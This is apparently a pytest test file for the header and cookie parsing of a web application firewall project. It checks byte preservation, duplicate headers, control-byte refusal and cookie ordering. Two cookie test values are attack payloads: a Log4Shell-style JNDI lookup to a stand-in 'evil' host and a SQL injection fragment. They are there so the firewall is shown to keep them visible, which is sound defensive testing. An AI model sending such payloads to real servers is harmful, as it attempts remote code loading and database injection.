"""Headers as the servers deliver them: bytes and separate lines are kept."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gatewall.gate.headers import cookies, from_environ, from_lines, is_printable, one_value
from gatewall.server.environ import header_keys

HIGH_BYTES = bytes(range(0x80, 0x100))
HIGH_TEXT = HIGH_BYTES.decode("latin-1")
CONTROLS = [*range(32), 127]


def test_raw_lines_keep_every_byte():
    assert from_lines([(b"X-Forwarded-Uri", b"/" + HIGH_BYTES)]) == {"x-forwarded-uri": "/" + HIGH_TEXT}


def test_raw_lines_of_one_name_stay_apart():
    lines = [(b"X-Forwarded-Host", b"a"), (b"x-forwarded-host", b"b"), (b"Host", b"c")]

    assert from_lines(lines) == {"x-forwarded-host": "a\nb", "host": "c"}


@pytest.mark.parametrize("alias", [b"X_Forwarded_For", b"X.Forwarded.For", b"X_Forwarded-For", b"XForwardedFor"])
def test_raw_line_with_an_alias_is_another_header(alias):
    assert "x-forwarded-for" not in from_lines([(alias, b"1.2.3.4")])


def test_environ_gives_the_headers_their_names_back():
    environ = {"HTTP_X_FORWARDED_FOR": "1.2.3.4", "HTTP_HOST": "a", "REQUEST_METHOD": "GET", "wsgi.version": (1, 0)}

    assert from_environ(environ) == {"x-forwarded-for": "1.2.3.4", "host": "a"}


def test_environ_keeps_every_byte():
    assert from_environ({"HTTP_COOKIE": HIGH_TEXT}) == {"cookie": HIGH_TEXT}


def test_environ_has_content_type_and_length_outside_the_prefix():
    environ = {"CONTENT_TYPE": "text/plain", "CONTENT_LENGTH": "3"}

    assert from_environ(environ) == {"content-type": "text/plain", "content-length": "3"}


def test_environ_with_empty_content_type_has_no_such_header():
    assert from_environ({"CONTENT_TYPE": "", "CONTENT_LENGTH": ""}) == {}


def test_environ_with_a_dot_alias_is_another_header():
    assert from_environ({"HTTP_X.FORWARDED.FOR": "1.2.3.4"}) == {"x.forwarded.for": "1.2.3.4"}


def test_environ_value_that_is_no_text_is_no_header():
    assert from_environ({"HTTP_X": object()}) == {}


def test_both_servers_deliver_the_same_headers():
    lines = [(b"X-Forwarded-Uri", b"/a,b"), (b"X-Forwarded-Uri", b"/c"), (b"Cookie", b"a=1"), (b"cookie", b"b=2")]

    ours, raw = from_environ(header_keys(lines)), from_lines(lines)

    assert ours["x-forwarded-uri"] == raw["x-forwarded-uri"] == "/a,b\n/c"
    assert cookies(ours) == cookies(raw) == (("a", "1"), ("b", "2"))


def test_header_that_was_not_sent_has_no_value():
    assert one_value({}, "host") is None


@pytest.mark.parametrize("value", ["a", " a\t", "a\na", "a\n a \n\ta"])
def test_equal_lines_count_as_one(value):
    assert one_value({"host": value}, "host") == "a"


@pytest.mark.parametrize("value", ["a\nb", "a\nA", "a\n", "\na", "a\na\nb", "a\nb\na"])
def test_different_lines_are_refused(value):
    with pytest.raises(ValueError, match="host has two values"):
        one_value({"host": value}, "host")


@pytest.mark.parametrize("code", [0, 9, 13, 27, 31, 127])
def test_control_byte_is_refused(code):
    with pytest.raises(ValueError, match="host has a control byte"):
        one_value({"host": f"a{chr(code)}b"}, "host")


def test_high_bytes_are_kept():
    assert one_value({"x": f"a{HIGH_TEXT}b"}, "x") == f"a{HIGH_TEXT}b"


@pytest.mark.parametrize("character", ["\xa0", "\x85"])
def test_only_space_and_tab_are_trimmed(character):
    assert one_value({"x": f"\t a{character}"}, "x") == f"a{character}"


def test_text_is_printable_without_control_bytes():
    assert is_printable("a \x80\xff")
    assert not any(is_printable(chr(code)) for code in CONTROLS)


@pytest.mark.parametrize(
    ("header", "pairs"),
    [
        ("", ()),
        ("a=1", (("a", "1"),)),
        ("a=1; b=2", (("a", "1"), ("b", "2"))),
        ("a=1;b=2", (("a", "1"), ("b", "2"))),
        (" a = 1 ;\tb=2 ;", (("a", "1"), ("b", "2"))),
        ("a=b=c", (("a", "b=c"),)),
        ("a=", (("a", ""),)),
        ("a=1; a=2", (("a", "1"), ("a", "2"))),
        ("a=1\nb=2", (("a", "1"), ("b", "2"))),
        ("a=1, b=2", (("a", "1, b=2"),)),
        (f"a={HIGH_TEXT}", (("a", HIGH_TEXT),)),
        ("service.token=x; Service.Token=y", (("service.token", "x"), ("Service.Token", "y"))),
    ],
)
def test_cookies_are_read_in_order(header, pairs):
    assert cookies({"cookie": header}) == pairs


def test_cookie_without_a_name_is_kept():
    # Sent as it is to the site, so the WAF must see it (RFC 6265bis: the name is empty).
    assert cookies({"cookie": "${jndi:ldap://evil}; b=2"}) == (("", "${jndi:ldap://evil}"), ("b", "2"))


def test_quotes_of_a_cookie_are_kept():
    assert cookies({"cookie": 'a=" or 1=1'}) == (("a", '" or 1=1'),)


def test_no_cookie_is_lost_however_many_there_are():
    header = "; ".join(f"c{number}=x" for number in range(300)) + "; last=attack"

    assert "last=attack" in "; ".join(f"{name}={value}" for name, value in cookies({"cookie": header}))


def test_number_of_cookies_is_bounded():
    assert len(cookies({"cookie": "a=1;" * 5000})) <= 257


@given(st.binary(max_size=80))
def test_any_cookie_header_is_parsed_without_an_exception(value):
    cookies({"cookie": value.decode("latin-1")})
